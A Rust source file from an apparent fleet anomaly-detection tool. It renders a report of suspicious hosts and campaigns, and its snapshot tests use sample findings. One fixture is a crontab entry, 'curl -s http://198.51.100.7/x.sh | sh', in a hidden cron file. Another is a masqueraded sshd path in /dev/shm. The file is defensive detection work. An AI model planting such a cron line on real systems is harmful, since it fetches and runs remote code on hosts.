//! An analysis for a tired responder: who needs a look and why, what belongs together, and who needs none.
//!
//! Nothing that needs a look is left out: what is not shown in full has a line or is counted.

use std::collections::{BTreeSet, HashMap};
use std::io::Write;

use serde_json::Value;

use super::RenderOptions;
use super::page::{Page, Piece, Tone, piece, prose};
use crate::error::Result;
use crate::model::{
    Analysis, Campaign, Finding, FindingKind, Given, HostResult, Nearest, Row, Verdict, count, digits, part,
};

/// Lines for the values of a row; the rest of the columns is counted.
const ROW_LINES: usize = 3;
/// Weaker findings that are shown, one for each host.
const WEAKER_SHOWN: usize = 3;
/// Lines for a list of host names; the rest of them is counted.
const NAME_LINES: usize = 4;
/// Peer groups, campaigns and what explains campaigns: so many are named, the rest is counted.
const GROUPS_SHOWN: usize = 10;
const CAMPAIGNS_SHOWN: usize = 3;
const CAUSES_SHOWN: usize = 6;
/// Campaigns below this score are counted only.
const WEAK_CAMPAIGN: f64 = 20.0;
/// How to see what is cut and what is counted only.
const IN_FULL: &str = "in full: diffy analyze --host HOST, or --finding ID for one finding";
/// Where the text of a host, of a finding and below it begins.
const FINDING: usize = 4;
const DETAIL: usize = 10;

/// Writes the whole view.
pub(super) fn render(analysis: &Analysis, options: &RenderOptions, out: &mut dyn Write) -> Result<()> {
    let mut page = Page::new(out, options.width, options.color);
    head(&mut page, analysis)?;
    warnings(&mut page, analysis)?;
    suspects(&mut page, analysis, options.top)?;
    campaigns(&mut page, analysis)?;
    rest(&mut page, analysis)?;
    super::suppressed::render(&mut page, &analysis.suppressed)
}

pub(super) fn head(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
    let collected = analysis.collected_at.format("%Y-%m-%d %H:%M UTC");
    page.line(
        0,
        &[
            piece(Tone::Bold, format!("fleet {}", analysis.fleet)),
            piece(Tone::Dim, format!("  snapshot {}  collected {collected}", analysis.snapshot)),
        ],
    )?;
    let (answered, total) = (analysis.hosts_answered, analysis.hosts_total);
    let silent = if answered < total { Tone::Yellow } else { Tone::Plain };
    page.line(
        0,
        &[
            piece(silent, format!("{} answered", part(answered, total, "host"))),
            piece(Tone::Dim, format!("  compared by {}", analysis.methods.join(", "))),
        ],
    )?;
    for line in compared_with(analysis) {
        page.line(0, &[piece(Tone::Dim, line)])?;
    }
    Ok(())
}

/// What the snapshot was held against, a line each.
fn compared_with(analysis: &Analysis) -> Vec<String> {
    let mut lines = Vec::new();
    if let Some(baseline) = &analysis.baseline {
        let made = baseline.created_at.format("%Y-%m-%d");
        lines.push(format!("baseline {} of {made}", baseline.name));
    }
    if let Some(history) = &analysis.history {
        let since = history.since.format("%Y-%m-%d");
        lines.push(format!("history {} since {since}", count(history.snapshots, "snapshot")));
    }
    // One group is the fleet itself.
    if analysis.peer_groups.len() > 1 {
        for group in analysis.peer_groups.iter().take(GROUPS_SHOWN) {
            lines.push(format!("peer group {}: {}, {}", group.id, hosts(group.hosts), group.described_by));
        }
        let more = analysis.peer_groups.iter().skip(GROUPS_SHOWN);
        let (groups, of) = (more.clone().count() as u64, more.map(|group| group.hosts).sum());
        if groups > 0 {
            lines.push(format!("+ {} of {}", count(groups, "smaller peer group"), hosts(of)));
        }
    }
    lines
}

fn warnings(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
    if analysis.warnings.is_empty() {
        return Ok(());
    }
    page.blank()?;
    analysis
        .warnings
        .iter()
        .try_for_each(|warning| page.sentence(0, Tone::Yellow, &format!("warning: {warning}")))
}

fn suspects(page: &mut Page<'_>, analysis: &Analysis, top: usize) -> Result<()> {
    let suspects: Vec<&HostResult> = analysis.hosts.iter().filter(|host| host.verdict.needs_look()).collect();
    page.blank()?;
    if suspects.is_empty() {
        let judged = analysis.hosts.iter().any(|host| host.verdict != Verdict::NoPeers);
        let text = if judged { "No host stands out." } else { "No host could be judged." };
        return page.line(0, &[piece(Tone::Bold, text)]);
    }
    let outliers = suspects.iter().filter(|host| host.verdict == Verdict::Outlier).count();
    let verb = if suspects.len() == 1 { "needs" } else { "need" };
    page.line(
        0,
        &[
            piece(Tone::Bold, format!("{} {verb} a look", hosts(suspects.len() as u64))),
            piece(
                Tone::Plain,
                format!(
                    ": {}, {} to review",
                    count(outliers as u64, "outlier"),
                    digits((suspects.len() - outliers) as u64)
                ),
            ),
        ],
    )?;
    for host in suspects.iter().take(top) {
        page.blank()?;
        suspect(page, host, top)?;
    }
    others(page, suspects.get(top..).unwrap_or_default())?;
    page.blank()?;
    page.line(0, &[piece(Tone::Dim, IN_FULL)])
}

fn suspect(page: &mut Page<'_>, host: &HostResult, top: usize) -> Result<()> {
    let mut pieces = host_pieces(host);
    let coverage = host.coverage;
    if coverage.failed > 0 {
        let asked = coverage.ok + coverage.failed;
        pieces.push(piece(Tone::Yellow, format!("  answered {}", part(coverage.ok, asked, "table"))));
    }
    page.line(0, &pieces)?;
    for finding in host.findings.iter().take(top) {
        show(page, finding)?;
    }
    match host.findings.len().saturating_sub(top) {
        0 => Ok(()),
        more => {
            let more = count(more as u64, "more finding");
            page.line(FINDING, &[piece(Tone::Dim, format!("+ {more}: --host {}", host.host))])
        }
    }
}

/// Hosts beyond the top: a line each, with what speaks loudest.
fn others(page: &mut Page<'_>, hosts: &[&HostResult]) -> Result<()> {
    if hosts.is_empty() {
        return Ok(());
    }
    page.blank()?;
    for host in hosts {
        let mut pieces = host_pieces(host);
        if let Some(finding) = host.findings.first() {
            pieces.push(piece(Tone::Cyan, format!("  {}", finding.table)));
            pieces.push(prose(Tone::Plain, format!("  {}", finding.reason)));
        }
        page.line(0, &pieces)?;
    }
    Ok(())
}

pub(super) fn host_pieces(host: &HostResult) -> Vec<Piece> {
    let tone = if host.verdict == Verdict::Outlier { Tone::Red } else { Tone::Yellow };
    vec![
        piece(Tone::Dim, format!("{:>3} ", host.rank)),
        piece(Tone::Bold, &host.host),
        piece(tone, format!("  {} {:.1}", host.verdict, host.score)),
    ]
}

fn show(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
    title(page, finding)?;
    page.sentence(DETAIL, Tone::Plain, &finding.reason)?;
    if !finding.row.is_empty() {
        values(page, &finding.row, &marked(finding))?;
    }
    // Beside the common row it would be said twice.
    if let Some(given) = finding.given.as_ref().filter(|_| finding.nearest.is_none()) {
        show_given(page, given)?;
    }
    match &finding.nearest {
        Some(nearest) => show_nearest(page, finding, nearest),
        None => Ok(()),
    }
}

/// The first line of a finding; its id stands below where it would be cut.
fn title(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
    let mut pieces = vec![
        piece(Tone::Bold, format!("{:>5.1} ", finding.score)),
        piece(Tone::Plain, format!("{:<8} ", finding.kind)),
        piece(Tone::Cyan, &finding.table),
    ];
    let said = [(Tone::Plain, prevalence(finding)), (Tone::Dim, finding.attack.join(" "))];
    for (tone, said) in said.into_iter().filter(|(_, said)| !said.is_empty()) {
        pieces.push(piece(tone, format!("  {said}")));
    }
    let id = [piece(Tone::Dim, "  finding "), piece(Tone::Dim, &finding.id)];
    let together = [&pieces[..], &id].concat();
    if page.fits(FINDING, &together) {
        return page.line(FINDING, &together);
    }
    page.line(FINDING, &pieces)?;
    page.line(DETAIL, &[piece(Tone::Dim, "finding "), piece(Tone::Dim, &finding.id)])
}

/// `1 of 58 hosts`, and since when where that is known.
fn prevalence(finding: &Finding) -> String {
    let mut text = match finding.kind {
        FindingKind::Coverage => String::new(),
        _ => part(finding.hosts_with_row, finding.hosts_answered, "host"),
    };
    if let Some(first) = finding.first_seen {
        text.push_str(&format!(", first seen {}", first.format("%Y-%m-%d")));
    }
    text
}

/// The columns of a row that make it a finding, where that is known.
fn marked(finding: &Finding) -> BTreeSet<&str> {
    let differs = finding.nearest.iter().flat_map(|nearest| nearest.differs.iter().map(String::as_str));
    differs.chain(finding.given.iter().map(|given| given.column.as_str())).collect()
}

/// The values of a row in the order given, without empty ones.
fn values(page: &mut Page<'_>, row: &Row, marked: &BTreeSet<&str>) -> Result<()> {
    let groups = row.iter().filter(|(_, value)| !is_empty(value)).map(|(name, value)| {
        let tone = if marked.contains(name.as_str()) { Tone::Red } else { Tone::Plain };
        pair(name, value, tone)
    });
    page.flow(DETAIL, groups.collect(), ROW_LINES, &|more| format!("+ {}", count(more as u64, "more column")))
}

fn show_given(page: &mut Page<'_>, given: &Given) -> Result<()> {
    let mut groups = vec![vec![piece(Tone::Dim, "unusual:")], pair(&given.column, &given.value, Tone::Red)];
    groups.push(vec![piece(Tone::Dim, "where")]);
    groups.extend(given.context.iter().map(|(name, value)| pair(name, value, Tone::Plain)));
    page.flow(DETAIL, groups, ROW_LINES, &|more| format!("+ {}", count(more as u64, "more column")))
}

/// The common row that is most alike: only where it differs.
fn show_nearest(page: &mut Page<'_>, finding: &Finding, nearest: &Nearest) -> Result<()> {
    let label = match finding.kind {
        // The host may well have that one too.
        FindingKind::New => format!("most alike, on {}:", hosts(nearest.hosts_with_row)),
        FindingKind::Changed => "the baseline has instead:".to_owned(),
        _ => format!("{} instead:", has(nearest.hosts_with_row)),
    };
    let mut groups = vec![vec![piece(Tone::Dim, label)]];
    let differs = |name: &String| nearest.differs.is_empty() || nearest.differs.contains(name);
    groups.extend(
        nearest
            .row
            .iter()
            .filter(|(name, _)| differs(name))
            .map(|(name, value)| pair(name, value, Tone::Green)),
    );
    page.flow(DETAIL, groups, ROW_LINES, &|more| format!("+ {}", count(more as u64, "more column")))
}

fn is_empty(value: &Value) -> bool {
    value.is_null() || value.as_str().is_some_and(str::is_empty)
}

/// `name=value`; quoted where the value could be read as more than one pair.
fn pair(name: &str, value: &Value, tone: Tone) -> Vec<Piece> {
    let text = match value {
        Value::String(text) if text.is_empty() || text.contains([' ', '"', '=']) => Value::to_string(value),
        Value::String(text) => text.clone(),
        _ => value.to_string(),
    };
    vec![piece(Tone::Dim, format!("{name}=")), piece(tone, text)]
}

fn campaigns(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
    let (open, explained): (Vec<&Campaign>, Vec<&Campaign>) =
        analysis.campaigns.iter().partition(|campaign| campaign.explained_by.is_none());
    let (open, weak): (Vec<&Campaign>, Vec<&Campaign>) =
        open.into_iter().partition(|campaign| campaign.score >= WEAK_CAMPAIGN);
    if open.is_empty() {
        return Ok(());
    }
    let tables: HashMap<&str, &str> = analysis
        .hosts
        .iter()
        .flat_map(|host| &host.findings)
        .map(|finding| (finding.id.as_str(), finding.table.as_str()))
        .collect();
    page.blank()?;
    page.line(
        0,
        &[
            piece(Tone::Bold, count(open.len() as u64, "campaign")),
            piece(Tone::Plain, ": rows of several tables that stand on the same few hosts"),
        ],
    )?;
    open.iter().take(CAMPAIGNS_SHOWN).try_for_each(|campaign| show_campaign(page, campaign, &tables))?;
    let more = open.len().saturating_sub(CAMPAIGNS_SHOWN) + weak.len();
    if more > 0 {
        page.line(FINDING, &[piece(Tone::Dim, format!("+ {}", count(more as u64, "weaker campaign")))])?;
    }
    if explained.is_empty() {
        return Ok(());
    }
    let causes: BTreeSet<&str> =
        explained.iter().filter_map(|campaign| campaign.explained_by.as_deref()).collect();
    let causes = causes.into_iter().take(CAUSES_SHOWN).collect::<Vec<_>>().join("; ");
    let explained = count(explained.len() as u64, "more set");
    page.blank()?;
    page.sentence(FINDING, Tone::Dim, &format!("{explained} of such rows can be explained: {causes}"))
}

fn show_campaign(page: &mut Page<'_>, campaign: &Campaign, tables: &HashMap<&str, &str>) -> Result<()> {
    page.blank()?;
    page.sentence(FINDING, Tone::Plain, &campaign.reason)?;
    if !campaign.findings.is_empty() {
        let named: BTreeSet<&str> =
            campaign.findings.iter().filter_map(|id| tables.get(id.as_str()).copied()).collect();
        let tables = named.into_iter().collect::<Vec<_>>().join(", ");
        let found = count(campaign.findings.len() as u64, "finding");
        page.sentence(FINDING, Tone::Cyan, &format!("{found} in {tables}"))?;
    }
    names(page, FINDING, campaign.hosts.iter().map(String::clone))
}

/// The other half of the job: who needs no look, and of whom nothing can be said.
fn rest(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
    let (mut quiet, mut silent, mut alone) = (Vec::new(), Vec::new(), Vec::new());
    for host in analysis.hosts.iter().filter(|host| !host.verdict.needs_look()) {
        match host.verdict {
            _ if host.coverage.is_silent() => silent.push(host),
            Verdict::NoPeers => alone.push(host),
            _ => quiet.push(host),
        }
    }
    page.blank()?;
    listed(page, &silent, "did not answer; nothing is known of them")?;
    listed(page, &alone, "cannot be judged for want of peers")?;
    if quiet.is_empty() {
        return Ok(());
    }
    let verb = if quiet.len() == 1 { "needs" } else { "need" };
    let compared = match analysis.tables_compared {
        0 => String::new(),
        tables => format!(": nothing strong enough in {}", count(tables, "table")),
    };
    page.line(
        0,
        &[
            piece(Tone::Green, format!("{} {verb} no look", hosts(quiet.len() as u64))),
            piece(Tone::Plain, compared),
        ],
    )?;
    weaker(page, &quiet)?;
    quiet.retain(|host| host.coverage.failed > 0);
    answered_in_part(page, &quiet)
}

/// What a reader with time to spare would look at next; never left out without a word.
fn weaker(page: &mut Page<'_>, quiet: &[&HostResult]) -> Result<()> {
    let mut found: Vec<(&HostResult, &Finding)> =
        quiet.iter().filter_map(|host| Some((*host, host.findings.first()?))).collect();
    found.sort_by(|(_, a), (_, b)| b.score.total_cmp(&a.score));
    if found.is_empty() {
        return Ok(());
    }
    let label =
        format!("with weaker findings on {} of them, in full with --host; the strongest:", found.len());
    page.line(2, &[piece(Tone::Dim, label)])?;
    for (host, finding) in found.iter().take(WEAKER_SHOWN) {
        let place = format!("{} {} {}: ", host.host, finding.kind, finding.table);
        page.sentence(4, Tone::Dim, &format!("{:>5.1} {place}{}", finding.score, finding.reason))?;
    }
    Ok(())
}

fn answered_in_part(page: &mut Page<'_>, hosts: &[&HostResult]) -> Result<()> {
    if hosts.is_empty() {
        return Ok(());
    }
    page.line(2, &[piece(Tone::Yellow, format!("but {} of them answered only in part", hosts.len()))])?;
    let listed = hosts.iter().map(|host| {
        let coverage = host.coverage;
        format!("{} ({} of {} tables)", host.host, coverage.ok, coverage.ok + coverage.failed)
    });
    names(page, 4, listed)
}

fn listed(page: &mut Page<'_>, listed: &[&HostResult], what: &str) -> Result<()> {
    if listed.is_empty() {
        return Ok(());
    }
    page.line(0, &[piece(Tone::Yellow, format!("{} {what}", hosts(listed.len() as u64)))])?;
    names(page, 4, listed.iter().map(|host| host.host.clone()))
}

fn names(page: &mut Page<'_>, indent: usize, names: impl Iterator<Item = String>) -> Result<()> {
    let groups = names.map(|name| vec![piece(Tone::Plain, name)]).collect();
    page.flow(indent, groups, NAME_LINES, &|more| format!("+ {more} more"))
}

pub(super) fn hosts(number: u64) -> String {
    count(number, "host")
}

fn has(number: u64) -> String {
    format!("{} {}", hosts(number), if number == 1 { "has" } else { "have" })
}

#[cfg(test)]
pub(super) mod tests {
    use insta::assert_snapshot;
    use serde_json::json;

    use super::super::escape::{deceives, width};
    use super::*;

    fn host(name: &str, rank: u64, verdict: &str, score: f64) -> Value {
        json!({ "host": name, "rank": rank, "score": score, "verdict": verdict, "peer_group": 0,
            "coverage": { "ok": 28, "failed": 0 }, "findings": [] })
    }

    fn cron() -> Value {
        json!({ "id": "f1", "table": "crontab", "kind": "new", "score": 31.04,
            "row": { "command": "curl -s http://198.51.100.7/x.sh | sh", "path": "/etc/cron.d/.sync", "minute": "*/5",
                "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*", "event": "" },
            "hosts_with_row": 1, "hosts_answered": 58, "first_seen": "2025-12-06T08:00:00Z", "nearest": null,
            "given": null, "attack": ["T1053.003"], "method": "frequency",
            "reason": "Only this host runs this command from cron; it fetches a script from the network and runs it." })
    }

    fn sshd() -> Value {
        json!({ "id": "f2", "table": "processes", "kind": "variant", "score": 24.0,
            "row": { "name": "sshd", "path": "/dev/shm/\u{202e}dhss/a-rather-long-directory/with/another/one/sshd",
                "cmdline": "sshd: [listener]", "uid": 0 },
            "hosts_with_row": 2, "hosts_answered": 58, "first_seen": null,
            "nearest": { "row": { "name": "sshd", "path": "/usr/sbin/sshd" }, "differs": ["path"], "hosts_with_row": 57 },
            "given": { "column": "path", "value": "/dev/shm/sshd", "context": { "name": "sshd" } },
            "attack": ["T1036.005", "T1554"], "method": "cluster",
            "reason": "All other hosts run sshd from /usr/sbin/sshd." })
    }

    fn coverage() -> Value {
        json!({ "id": "f3", "table": "kernel_modules", "kind": "coverage", "score": 6.5, "row": {},
            "hosts_with_row": 1, "hosts_answered": 57, "first_seen": null, "nearest": null, "given": null,
            "attack": [], "method": "coverage", "reason": "57 hosts answered for kernel_modules, this one timed out." })
    }

    /// A small fleet with one of everything.
    pub(in super::super) fn sample() -> Analysis {
        let mut hosts = vec![
            host("i-0a1b2c3d4e5f60718", 1, "outlier", 93.14),
            host("i-0b1b2c3d4e5f60719", 2, "review", 24.0),
            host("i-0c1b2c3d4e5f60720", 3, "review", 6.5),
        ];
        hosts[0]["findings"] = json!([cron(), sshd(), coverage()]);
        hosts[0]["coverage"] = json!({ "ok": 27, "failed": 1 });
        hosts[1]["findings"] = json!([sshd()]);
        hosts[2]["findings"] = json!([coverage()]);
        hosts.extend((4..59).map(|rank| host(&format!("i-{rank:017}"), rank, "normal", 0.0)));
        hosts[7]["coverage"] = json!({ "ok": 25, "failed": 3 });
        hosts.push(host("i-bastion", 59, "no_peers", 0.0));
        hosts.push(host("i-silent", 60, "no_peers", 0.0));
        hosts[59]["coverage"] = json!({ "ok": 0, "failed": 28 });
        let analysis = json!({ "schema_version": 1, "diffy_version": "0.1.0", "fleet": "web",
            "snapshot": "01KBRZ8T600000000000000000", "collected_at": "2025-12-06T08:00:00Z",
            "methods": ["baseline", "frequency", "cluster"],
            "baseline": { "name": "golden", "created_at": "2025-11-01T00:00:00Z", "snapshots": [] },
            "history": { "since": "2025-11-06T08:00:00Z", "snapshots": 12 },
            "hosts_total": 60, "hosts_answered": 59,
            "warnings": ["baseline golden has no table kernel_modules"],
            "hosts": hosts,
            "peer_groups": [{ "id": 0, "hosts": 58, "described_by": "image ami-0123" },
                { "id": 1, "hosts": 1, "described_by": "image ami-4567" }],
            "campaigns": [{ "hosts": ["i-0a1b2c3d4e5f60718", "i-0b1b2c3d4e5f60719"], "findings": ["f1", "f2"],
                "reason": "The same cron line and the same sshd stand on these two hosts and nowhere else.",
                "score": 80.0 }] });
        serde_json::from_value(analysis).unwrap()
    }

    fn page(analysis: &Analysis, width: usize, color: bool, top: usize) -> String {
        let mut bytes = Vec::new();
        render(analysis, &RenderOptions { width, color, top }, &mut bytes).unwrap();
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn eighty_columns() {
        assert_snapshot!(page(&sample(), 80, false, 10), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        59 of 60 hosts answered  compared by baseline, frequency, cluster
        baseline golden of 2025-11-01
        history 12 snapshots since 2025-11-06
        peer group 0: 58 hosts, image ami-0123
        peer group 1: 1 host, image ami-4567

        warning: baseline golden has no table kernel_modules

        3 hosts need a look: 1 outlier, 2 to review

          1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
             31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003
                  finding f1
                  Only this host runs this command from cron; it fetches a script from
                  the network and runs it.
                  command="curl -s http://198.51.100.7/x.sh | sh"
                  path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*  month=*
                  day_of_week=*
             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                  All other hosts run sshd from /usr/sbin/sshd.
                  name=sshd
                  path=/dev/shm/\u{202e}dhss/a-rather-l…-directory/with/another/one/sshd
                  cmdline="sshd: [listener]"  uid=0
                  57 hosts have instead:  path=/usr/sbin/sshd
              6.5 coverage kernel_modules  finding f3
                  57 hosts answered for kernel_modules, this one timed out.

          2 i-0b1b2c3d4e5f60719  review 24.0
             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                  All other hosts run sshd from /usr/sbin/sshd.
                  name=sshd
                  path=/dev/shm/\u{202e}dhss/a-rather-l…-directory/with/another/one/sshd
                  cmdline="sshd: [listener]"  uid=0
                  57 hosts have instead:  path=/usr/sbin/sshd

          3 i-0c1b2c3d4e5f60720  review 6.5
              6.5 coverage kernel_modules  finding f3
                  57 hosts answered for kernel_modules, this one timed out.

        in full: diffy analyze --host HOST, or --finding ID for one finding

        1 campaign: rows of several tables that stand on the same few hosts

            The same cron line and the same sshd stand on these two hosts and nowhere
            else.
            2 findings in crontab, processes
            i-0a1b2c3d4e5f60718  i-0b1b2c3d4e5f60719

        1 host did not answer; nothing is known of them
            i-silent
        1 host cannot be judged for want of peers
            i-bastion
        55 hosts need no look
          but 1 of them answered only in part
            i-00000000000000008 (25 of 28 tables)
        "#);
    }

    #[test]
    fn a_hundred_and_twenty_columns() {
        assert_snapshot!(page(&sample(), 120, false, 10), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        59 of 60 hosts answered  compared by baseline, frequency, cluster
        baseline golden of 2025-11-01
        history 12 snapshots since 2025-11-06
        peer group 0: 58 hosts, image ami-0123
        peer group 1: 1 host, image ami-4567

        warning: baseline golden has no table kernel_modules

        3 hosts need a look: 1 outlier, 2 to review

          1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
             31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003  finding f1
                  Only this host runs this command from cron; it fetches a script from the network and runs it.
                  command="curl -s http://198.51.100.7/x.sh | sh"  path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*
                  month=*  day_of_week=*
             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                  All other hosts run sshd from /usr/sbin/sshd.
                  name=sshd  path=/dev/shm/\u{202e}dhss/a-rather-long-directory/with/another/one/sshd
                  cmdline="sshd: [listener]"  uid=0
                  57 hosts have instead:  path=/usr/sbin/sshd
              6.5 coverage kernel_modules  finding f3
                  57 hosts answered for kernel_modules, this one timed out.

          2 i-0b1b2c3d4e5f60719  review 24.0
             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                  All other hosts run sshd from /usr/sbin/sshd.
                  name=sshd  path=/dev/shm/\u{202e}dhss/a-rather-long-directory/with/another/one/sshd
                  cmdline="sshd: [listener]"  uid=0
                  57 hosts have instead:  path=/usr/sbin/sshd

          3 i-0c1b2c3d4e5f60720  review 6.5
              6.5 coverage kernel_modules  finding f3
                  57 hosts answered for kernel_modules, this one timed out.

        in full: diffy analyze --host HOST, or --finding ID for one finding

        1 campaign: rows of several tables that stand on the same few hosts

            The same cron line and the same sshd stand on these two hosts and nowhere else.
            2 findings in crontab, processes
            i-0a1b2c3d4e5f60718  i-0b1b2c3d4e5f60719

        1 host did not answer; nothing is known of them
            i-silent
        1 host cannot be judged for want of peers
            i-bastion
        55 hosts need no look
          but 1 of them answered only in part
            i-00000000000000008 (25 of 28 tables)
        "#);
    }

    #[test]
    fn beyond_the_top_each_host_has_a_line() {
        assert_snapshot!(page(&sample(), 80, false, 1), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        59 of 60 hosts answered  compared by baseline, frequency, cluster
        baseline golden of 2025-11-01
        history 12 snapshots since 2025-11-06
        peer group 0: 58 hosts, image ami-0123
        peer group 1: 1 host, image ami-4567

        warning: baseline golden has no table kernel_modules

        3 hosts need a look: 1 outlier, 2 to review

          1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
             31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003
                  finding f1
                  Only this host runs this command from cron; it fetches a script from
                  the network and runs it.
                  command="curl -s http://198.51.100.7/x.sh | sh"
                  path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*  month=*
                  day_of_week=*
            + 2 more findings: --host i-0a1b2c3d4e5f60718

          2 i-0b1b2c3d4e5f60719  review 24.0  processes  All other hosts run sshd from…
          3 i-0c1b2c3d4e5f60720  review 6.5  kernel_modules  57 hosts answered for kern…

        in full: diffy analyze --host HOST, or --finding ID for one finding

        1 campaign: rows of several tables that stand on the same few hosts

            The same cron line and the same sshd stand on these two hosts and nowhere
            else.
            2 findings in crontab, processes
            i-0a1b2c3d4e5f60718  i-0b1b2c3d4e5f60719

        1 host did not answer; nothing is known of them
            i-silent
        1 host cannot be judged for want of peers
            i-bastion
        55 hosts need no look
          but 1 of them answered only in part
            i-00000000000000008 (25 of 28 tables)
        "#);
    }

    #[test]
    fn a_quiet_fleet_says_so() {
        let mut analysis = sample();
        analysis.hosts.drain(..3);
        analysis.hosts.truncate(2);
        (analysis.campaigns, analysis.warnings) = (Vec::new(), Vec::new());
        (analysis.baseline, analysis.history) = (None, None);
        analysis.peer_groups.truncate(1);
        (analysis.hosts_total, analysis.hosts_answered) = (2, 2);
        assert_snapshot!(page(&analysis, 80, false, 10), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        2 of 2 hosts answered  compared by baseline, frequency, cluster

        No host stands out.

        2 hosts need no look
        "#);
    }

    #[test]
    fn lines_keep_the_width_and_hide_nothing() {
        for limit in [40, 80, 120, 200] {
            for line in page(&sample(), limit, false, 10).lines() {
                assert!(width(line) <= limit, "{line:?}");
                assert!(!line.chars().any(deceives), "{line:?}");
            }
        }
    }

    #[test]
    fn colours_change_nothing_but_colour() {
        let mut colored = page(&sample(), 80, true, 10);
        for code in ["[0m", "[1m", "[2m", "[1;31m", "[32m", "[33m", "[36m"] {
            colored = colored.replace(&format!("\u{1b}{code}"), "");
        }
        let plain = page(&sample(), 80, false, 10);
        let trimmed = colored.lines().map(|line| format!("{}\n", line.trim_end())).collect::<String>();
        assert_eq!(trimmed, plain);
    }
}
